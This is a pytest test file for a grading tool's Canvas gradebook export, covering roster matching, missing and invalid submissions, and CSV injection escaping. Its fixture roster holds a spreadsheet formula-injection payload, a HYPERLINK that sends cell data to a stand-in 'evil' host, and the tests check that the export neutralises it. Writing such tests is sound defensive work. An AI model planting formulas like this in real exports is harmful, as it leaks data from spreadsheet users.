"""Exports a spreadsheet opens: Canvas roster matching, missing students, CSV injection, invalid status."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from coursekit.cli import cli
from coursekit.review.escape import csv_cell
from coursekit.review.export import canvas_csv, read_roster
from coursekit.review.results import ReviewError
from coursekit.review.ingest import record_batch
from coursekit.review.store import Gradebook
from coursekit.review.synthetic import DEFAULT_MILESTONE, synthetic_course, write_synthetic_class

TITLE = "Linear algebra from scratch"


def _rename(out: Path, old: str, new: str, **extra) -> None:
    (out / old).rename(out / new)
    data = json.loads((out / new / "results.json").read_text())
    data["extra_data"]["student"] = new
    data["extra_data"].update(extra)
    (out / new / "results.json").write_text(json.dumps(data))


@pytest.fixture
def graded(tmp_path: Path) -> Path:
    """Five submissions named as they come: a login, an email's user, a Canvas download, an SIS id, one odd."""
    out = tmp_path / "out"
    write_synthetic_class(out, 5, seed=4)
    _rename(out, "student0000", "jdoe")
    _rename(out, "student0001", "asmith")                          # SIS Login ID asmith@uni.edu
    _rename(out, "student0002", "leebo_LATE_30003_998877_m01")     # Canvas bulk download name
    _rename(out, "student0003", "S00004")                          # SIS User ID
    _rename(out, "student0004", "@mallory", submission_error="the file is not a notebook: invalid JSON")
    record_batch(out_dir=out, course=synthetic_course(), milestone=DEFAULT_MILESTONE)
    return out


def _canvas_export(tmp_path: Path, columns: str = f"Quiz 1 (111),{TITLE} (7148451)") -> Path:
    """A Canvas gradebook export as Canvas writes it (BOM, Points Possible row, Test Student)."""
    path = tmp_path / "canvas-export.csv"
    path.write_text(
        f"\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,{columns}\n"
        "    Points Possible,,,,,10,65\n"
        '"Doe, John",30001,S00001,jdoe,Lab A,5,\n'
        '"Smith, Ann",30002,S00002,asmith@uni.edu,Lab A,,\n'
        '"Lee, Bo",30003,S00003,blee,Lab B,,\n'
        '"Kim, Su",30004,S00004,skim,Lab B,,\n'
        '"=HYPERLINK(""http://evil/?""&A1,""x"")",30005,S00005,mallory,Lab B,,\n'
        '"Roe, Ray",30006,S00006,rroe,Lab B,,\n'
        '"Student, Test",30099,,,Lab A,,\n', encoding="utf-8")
    return path


def _export(out: Path, *args: str) -> tuple[list[list[str]], str]:
    result = CliRunner().invoke(cli, ["export", str(out), "--format", "canvas", *args])
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout))), result.stderr


def test_canvas_needs_a_roster_and_says_how_to_get_one(graded: Path) -> None:
    result = CliRunner().invoke(cli, ["export", str(graded), "--format", "canvas"])
    assert result.exit_code == 1
    lines = [line for line in result.output.splitlines() if line]
    assert len(lines) == 1 and lines[0].startswith("Error: ") and "needs --roster" in lines[0]
    assert "Export Entire Gradebook" in lines[0]


def test_canvas_export_roster_matches_every_id_kind_and_takes_the_assignment_id(graded: Path, tmp_path: Path) -> None:
    rows, warnings = _export(graded, "--roster", str(_canvas_export(tmp_path)), "--skip-unmatched")
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", f"{TITLE} (7148451)"]
    by_id = {row[1]: row for row in rows[2:]}
    with Gradebook.open(graded) as book:
        final = {g.student: g.final for g in book.grades()}
    assert float(by_id["30001"][5]) == pytest.approx(final["jdoe"], abs=0.01)            # SIS Login ID
    assert float(by_id["30002"][5]) == pytest.approx(final["asmith"], abs=0.01)          # login's user part
    assert float(by_id["30003"][5]) == pytest.approx(final["leebo_LATE_30003_998877_m01"], abs=0.01)  # download
    assert float(by_id["30004"][5]) == pytest.approx(final["S00004"], abs=0.01)          # SIS User ID
    # '@mallory' is not 'mallory': left out with a warning; the roster's mallory and Roe have no submission.
    assert "left out 1 graded students not in the roster: @mallory" in warnings
    assert by_id["30005"][5] == "0" and by_id["30006"][5] == "0"
    assert "2 roster students have no submission and get 0: " in warnings and "Roe, Ray [rroe]" in warnings
    assert "30099" not in by_id  # Canvas's Test Student is not a student
    # A roster name that is a formula is a text cell; scores stay numbers.
    assert by_id["30005"][0] == "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")"
    assert all(row[5] == "0" or float(row[5]) >= 0 for row in rows[2:])


def test_missing_submissions_can_be_excused(graded: Path, tmp_path: Path) -> None:
    rows, warnings = _export(graded, "--roster", str(_canvas_export(tmp_path)), "--skip-unmatched",
                             "--missing", "excused")
    by_id = {row[1]: row for row in rows[2:]}
    assert by_id["30005"][5] == "EX" and by_id["30006"][5] == "EX"
    assert "get EX" in warnings and "--missing zero" in warnings


def test_invalid_submissions_are_flagged_in_the_export(graded: Path, tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text("student,name,id\njdoe,\"Doe, John\",1\n@mallory,Mallory,2\n")
    rows, warnings = _export(graded, "--roster", str(roster), "--skip-unmatched", "--assignment-id", "42")
    assert rows[0][5] == f"{TITLE} [{DEFAULT_MILESTONE}] (42)"
    assert "1 exported grades come from submissions the grader could not grade: @mallory (invalid)" in warnings


def test_assignment_column_is_found_or_the_export_says_why(graded: Path, tmp_path: Path) -> None:
    roster = read_roster(_canvas_export(tmp_path, columns="Quiz 1 (111),Essay (222)"))
    with Gradebook.open(graded) as book:
        export = canvas_csv(book, roster=roster, skip_unmatched=True)
        assert export.column == f"{TITLE} [{DEFAULT_MILESTONE}]"  # no id: Canvas creates a new assignment
        assert any("no column for m01-linear-algebra (found: Quiz 1 (111), Essay (222))" in w for w in export.warnings)
        twice = read_roster(_canvas_export(tmp_path, columns=f"{TITLE} (1),{TITLE} (resubmission) (2)"))
        with pytest.raises(ReviewError, match="several assignments of the roster match"):
            canvas_csv(book, roster=twice, skip_unmatched=True)
        named = canvas_csv(book, roster=roster, skip_unmatched=True, assignment_id="222")
        assert named.column == "Essay (222)"  # the roster's own name for that id, so Canvas matches it


def test_two_submissions_for_one_roster_student_are_refused(graded: Path, tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n\"Doe, John\",30001,S00004,jdoe,A\n")
    with Gradebook.open(graded) as book, pytest.raises(ReviewError, match="several graded submissions match"):
        canvas_csv(book, roster=read_roster(roster), skip_unmatched=True)


def test_roster_without_id_columns_is_a_one_line_error(tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text("name,email\nJohn,j@x\n")
    with pytest.raises(ReviewError, match="needs a 'student' column .*found: name, email"):
        read_roster(roster)


# ------------------------------------------------------------------ gradebook.csv and status


def test_gradebook_csv_neutralises_formula_ids_and_counts_invalid(graded: Path) -> None:
    rows = list(csv.reader((graded / "gradebook.csv").open()))
    by_student = {row[0]: row for row in rows[1:]}
    assert "'@mallory" in by_student and "@mallory" not in by_student
    header = rows[0]
    assert by_student["'@mallory"][header.index("status")] == "invalid"
    assert all(float(by_student["jdoe"][header.index(col)]) >= 0 for col in ("total", "final_score"))
    result = CliRunner().invoke(cli, ["report", str(graded)])
    assert result.exit_code == 0, result.output
    index = (graded / "site" / "index.html").read_text()
    errors = sum(status != "ok" for status in (row[header.index("status")] for row in rows[1:]))
    assert errors >= 1 and f'Grading errors <b class="bad">{errors}</b>' in index
    assert '<span class="badge bad">invalid</span>' in index


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-rf", "'-rf"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), (" =x", "' =x"), ("\uff1dx", "'\uff1dx"), ("alice", "alice"), ("-0.5", "-0.5"),
    ("+3", "+3"), ("1e-3", "1e-3"), (7, 7), (2.5, 2.5), ("", ""), ("'=x", "'=x"),
])
def test_csv_cell_follows_owasp(value, expected) -> None:
    assert csv_cell(value) == expected
